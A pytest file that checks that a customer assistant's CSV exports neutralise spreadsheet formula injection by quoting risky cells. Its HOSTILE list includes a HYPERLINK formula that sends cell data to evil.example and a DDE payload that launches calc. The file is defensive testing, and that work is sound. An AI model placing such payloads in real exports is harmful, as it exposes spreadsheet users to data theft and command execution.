"""Audience exports open in a spreadsheet without running anything a customer typed."""

from __future__ import annotations

import csv
import io
import re
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from assistant.csv_export import safe_cell, write_table

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_get_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["C00042", "a=b", "", " =1", "'=already", 42, -3, 1.5, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_write_table_takes_mappings_and_sequences_and_refuses_stray_fields():
    fh = io.StringIO()
    assert write_table(fh, ["id", "spend"], [{"id": "=1+1", "spend": -5}, ["@x", 2]]) == 2
    assert list(csv.reader(io.StringIO(fh.getvalue()))) == [
        ["id", "spend"],
        ["'=1+1", "-5"],
        ["'@x", "2"],
    ]
    with pytest.raises(ValueError, match=r"row 1 has fields not in the columns: \['email'\]"):
        write_table(io.StringIO(), ["id"], [{"id": "a", "email": "x"}])


def _read(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_web_audience_download_is_neutralised(tmp_path):
    from assistant.webapp import panels

    rows = [{c: None for c in panels.CSV_COLUMNS} for _ in HOSTILE]
    for row, value in zip(rows, HOSTILE, strict=True):
        row.update(customer_id=value, segment=value, orders=3, spend=-12.5)
    lines = _read(panels.write_csv(rows, tmp_path))
    assert lines[0] == list(panels.CSV_COLUMNS)
    column = lines[0].index("customer_id")
    assert [line[column] for line in lines[1:]] == ["'" + v for v in HOSTILE]
    assert {line[lines[0].index("spend")] for line in lines[1:]} == {"-12.5"}


def test_cli_audience_csv_is_neutralised(tmp_path, monkeypatch):
    from assistant.cli import app
    from assistant.commands import people

    def fake_find_customers(**_filters):
        return {
            "count": len(HOSTILE),
            "of_customers": 10,
            "filters": {},
            "stats": {},
            "sample_ids": [],
            "ids": HOSTILE,
        }

    class FakeToolbox:
        def call(self, name, **args):
            assert name == "find_customers"
            return SimpleNamespace(unwrap=lambda: fake_find_customers(**args))

    @contextmanager
    def fake_workspace(_data_dir, **_kwargs):
        yield SimpleNamespace(
            settings=SimpleNamespace(role="marketer", models_dir=tmp_path),
            toolbox=lambda role: FakeToolbox(),
        )

    monkeypatch.setattr(people, "open_workspace", fake_workspace)
    out = tmp_path / "audience.csv"
    result = CliRunner().invoke(app, ["audience", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    assert _read(out) == [["customer_id"], *(["'" + v] for v in HOSTILE)]


def test_every_csv_writer_goes_through_the_helper():
    """Writers for people's spreadsheets use assistant.csv_export; the only others
    write ingest input, which must reach the ingest unchanged."""
    allowed = {
        "assistant/csv_export.py",
        "assistant/demo/build.py",  # the demo shop's source files, read back by ingest
        "benchmarks/bench_ingest.py",  # synthetic ingest input
    }
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(|open\([^)]*\.csv[\"'][^)]*\"w")
    offenders = []
    for folder in ("assistant", "tools", "vectorstore", "benchmarks"):
        for path in (ROOT / folder).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel not in allowed and pattern.search(path.read_text(encoding="utf-8")):
                offenders.append(rel)
    for path in [ROOT / "ui.py"]:
        if pattern.search(path.read_text(encoding="utf-8")):
            offenders.append(path.name)
    assert offenders == []
